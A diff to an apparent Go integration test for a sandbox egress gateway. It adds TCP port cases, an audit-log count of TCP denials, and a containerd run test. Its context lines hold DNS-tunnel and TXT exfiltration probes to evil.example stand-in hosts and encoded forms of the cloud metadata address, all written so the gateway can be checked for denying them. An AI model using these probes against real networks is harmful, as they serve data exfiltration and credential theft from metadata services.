@@ -132,6 +132,7 @@ sandbox:
   network:
     allowed_egress:
       - {host: allowed.test, ports: [80, 443]}
+      - {host: allowed.test, port: 8080}
       - {host: "*.wild.test", port: 443}
       - {host: limited.test, port: 80, rate_limit: "2/minute", max_request_size_kb: 1, max_response_size_mb: 1}
       - {host: rebind.test, port: 80}
@@ -179,7 +180,9 @@ curl("private-ip", *np, "http://10.77.0.5/")
 curl("private-name", "http://private.test/")
 curl("host-ip", *np, "http://192.0.2.1/")
 curl("host-name", "http://hostself.test/")
-curl("other-port", *np, "http://198.51.100.10:8080/")
+curl("tcp-allowed-name", *np, "http://allowed.test:8080/")
+curl("tcp-other-port", *np, "http://allowed.test:9090/")
+curl("tcp-raw-ip", *np, "http://198.51.100.20:8080/")
 dns("dns-allowed", "allowed.test", 1)
 dns("dns-tunnel", "6f70656e7368656c6c2d736563726574.evil.example", 1)
 dns("dns-txt", "exfil.evil.example", 16)
@@ -211,7 +214,7 @@ func TestEgressGateway(t *testing.T) {
 		}
 	}
 	reached := func(k string) bool { return strings.Contains(got[k], "hello from") }
-	for _, k := range []string{"proxy-http", "proxy-https", "transparent-http", "transparent-https", "limited-1"} {
+	for _, k := range []string{"proxy-http", "proxy-https", "transparent-http", "transparent-https", "limited-1", "tcp-allowed-name"} {
 		if !reached(k) {
 			t.Errorf("%s: allowed destination not reached: %q", k, got[k])
 		}
@@ -221,7 +224,7 @@ func TestEgressGateway(t *testing.T) {
 	}
 	denied := []string{
 		"proxy-denied-name", "proxy-denied-https", "transparent-denied-name", "raw-ip-http", "raw-ip-https", "proxy-raw-ip",
-		"forged-sni", "forged-host", "rebind", "private-ip", "private-name", "host-ip", "host-name", "other-port",
+		"forged-sni", "forged-host", "rebind", "private-ip", "private-name", "host-ip", "host-name", "tcp-other-port", "tcp-raw-ip",
 		"limited-big-request", "limited-rate", "wild", "inference",
 	}
 	for _, enc := range []string{"169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "[::ffff:169.254.169.254]", "[fd00:ec2::254]"} {
@@ -281,6 +284,15 @@ func TestEgressGateway(t *testing.T) {
 		if ev.Decision == egress.Deny {
 			hosts[ev.Host] = true
 		}
+	}
+	tcpDenials := 0
+	for _, ev := range events {
+		if ev.Kind == "tcp" && ev.Decision == egress.Deny {
+			tcpDenials++
+		}
+	}
+	if tcpDenials != 2 {
+		t.Errorf("%d denials of plain TCP in the audit log, want 2 (another port of an allowed name, a raw address)", tcpDenials)
 	}
 	for _, h := range []string{"denied.test", "198.51.100.20", "allowed.test", "169.254.169.254", "fd00:ec2::254", "10.77.0.5", "hostself.test", "rebind.test", "limited.test", "inference.local"} {
 		if !hosts[h] {
@@ -516,5 +528,36 @@ for url in ["http://allowed.test/", "http://denied.test/"]:
 	}
 	if denials == 0 {
 		t.Errorf("no denial for denied.test from sandbox %s in the audit log", id)
+	}
+}
+
+// TestEgressThroughCtr: a container run by containerd through
+// io.openshell.v1, with the policy in an annotation and the runtime
+// configuration given as the runtime's options (ctr
+// --runtime-config-path, CRI's ConfigPath), reaches what its rules allow
+// through its own gateway, and nothing else; nothing is left after.
+func TestEgressThroughCtr(t *testing.T) {
+	e := newEgressEnv(t)
+	c := startContainerd(t)
+	args := []string{"run", "--rm", "--runtime", "io.openshell.v1", "--runtime-config-path", e.config,
+		"--annotation", "io.openshell.policy.inline=" + egressPolicy, testImage, "egress-ctr",
+		"/bin/sh", "-c", "wget -q -O- -T 5 http://allowed.test/; echo rc=$?; wget -q -O- -T 5 http://denied.test/ 2>&1; echo rc=$?"}
+	r := c.ctrRun(t, args...)
+	if r.code != 0 {
+		t.Fatalf("ctr run: exit %d\n%s%s", r.code, r.stdout, r.stderr)
+	}
+	if !strings.Contains(r.stdout, "hello from http 198.51.100.10 host=allowed.test") || !strings.Contains(r.stdout, "403") {
+		t.Errorf("output:\n%s%s", r.stdout, r.stderr)
+	}
+	var denied bool
+	for _, ev := range e.events(t) {
+		denied = denied || (ev.Host == "denied.test" && ev.Decision == egress.Deny)
+	}
+	if !denied {
+		t.Errorf("no denial of denied.test in the audit log")
+	}
+	c.assertClean(t)
+	if p := processesMentioning("egress-ctr/gateway.json"); len(p) > 0 {
+		t.Errorf("gateway left: %v", p)
 	}
 }
